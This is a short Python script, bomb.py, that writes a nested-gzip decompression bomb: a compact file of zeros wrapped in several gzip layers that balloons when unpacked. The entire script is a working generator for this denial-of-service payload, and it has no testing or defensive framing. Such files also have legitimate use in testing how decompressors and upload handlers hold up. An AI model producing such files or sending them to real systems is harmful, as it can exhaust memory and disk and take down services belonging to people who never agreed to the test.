#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes FILE: so many MIB of zeros below LAYERS (2) layers of gzip.

Usage: bomb.py FILE MIB [LAYERS]
"""
import sys
import zlib


def main():
    layers = [zlib.compressobj(9, zlib.DEFLATED, 31)
              for _ in range(int((sys.argv[3:] or ["2"])[0]))]
    with open(sys.argv[1], "wb") as file:
        for _ in range(int(sys.argv[2])):
            data = bytes(1 << 20)
            for layer in layers:
                data = layer.compress(data)
            file.write(data)
        for at, layer in enumerate(layers):
            data = layer.flush()
            for above in layers[at + 1:]:
                data = above.compress(data)
            file.write(data)


if __name__ == "__main__":
    main()
